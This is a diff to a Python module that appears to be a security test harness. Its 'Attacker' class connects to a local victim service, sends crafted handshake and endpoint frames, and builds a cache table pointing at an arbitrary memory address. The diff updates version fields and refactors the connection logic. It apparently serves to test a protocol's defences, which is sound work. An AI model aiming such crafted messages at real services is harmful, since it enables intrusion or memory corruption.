@@ -28,7 +28,7 @@ _MOST_POOLS = 64
 def hello(purpose: int = 1, auth: int = 0, cluster_id: int = 0, nonce: bytes = b"") -> bytes:
     """Greet: for a link (purpose 1), or for a stream."""
     nonce = nonce or os.urandom(16)
-    return struct.pack("<IHBBIQ16s", 0x44444C4C, 1, purpose, auth, 0, cluster_id, nonce)
+    return struct.pack("<IHBBIQ16s", 0x44444C4C, 2, purpose, auth, 0, cluster_id, nonce)
 
 
 def frame(kind: int, request_id: int, body: bytes = b"", size: int | None = None) -> bytes:
@@ -56,7 +56,7 @@ def endpoint(transports: int = 7, regions: list[Region] | None = None) -> bytes:
     regions = regions or []
     head = struct.pack(
         "<IIIIIIQ16s16sQ",
-        *(0x50454D4C, 1, transports, os.getpid(), os.getuid(), 1),
+        *(0x50454D4C, 2, transports, os.getpid(), os.getuid(), 1),
         *(0, b"c" * 16, bytes(16), len(regions)),
     )
     return head + b"".join(
@@ -123,8 +123,27 @@ class Attacker:
         confirm: bool = True,
     ) -> None:
         self.nonce = os.urandom(16)
-        greeting = os.urandom(16)
         self.stream = socket.create_connection(("127.0.0.1", port), timeout=10)
+        try:
+            self._link(cluster_id, secret, group, mode, regions, transports)
+            # What the victim answers over the channel; nothing when it refuses the gift.
+            self.given = b"" if gift is None else self.give(gift)
+            if confirm:
+                self.confirm()
+        except BaseException:
+            self.stream.close()
+            raise
+
+    def _link(
+        self,
+        cluster_id: int,
+        secret: bytes,
+        group: bytes,
+        mode: int,
+        regions: list[Region] | None,
+        transports: int,
+    ) -> None:
+        greeting = os.urandom(16)
         self.stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         self.stream.sendall(hello(auth=1 if secret else 0, cluster_id=cluster_id, nonce=greeting))
         answered = receive(self.stream, HELLO_BYTES)[20:]
@@ -139,11 +158,7 @@ class Attacker:
         if status:
             raise ConnectionRefusedError(f"{status:#x} {reply[8:]!r}")
         text_bytes = struct.unpack_from("<I", reply, 4)[0]
-        self.channel = reply[12 + text_bytes :][56:72]
-        if gift is not None:
-            self.give(gift)
-        if confirm:
-            self.confirm()
+        self.channel = reply[12 + text_bytes :][48:64]
 
     def ask(self, kind: int, body: bytes = b"") -> bytes:
         """Send a request and wait for its answer."""
@@ -209,8 +224,8 @@ def serve(stream: socket.socket, answer: Callable[[int], bytes]) -> threading.Th
 
 
 def table_of_one(addr: int, stride: int, count: int) -> bytes:
-    """Describe one cache with blocks, model 0, with one tensor of INT8."""
-    cache = struct.pack("<qIBBBIQQ", 1, 1, 1, 0, 1, 2, stride * count, count)
-    cache += struct.pack("<Q", addr)
+    """Describe one cache with blocks, model 0, with one tensor of FLOAT16."""
+    cache = struct.pack("<qIBBBIQQ", 1, 1, 1, 0, 1, 1, stride * count, count)
+    cache += struct.pack("<BqqQ", 2, count, stride // 2, addr)
     name = struct.pack("<QQqQ", 2**64 - 1, 0, 1, 0)
     return struct.pack("<QI", 1, 1) + cache + struct.pack("<I", 1) + name
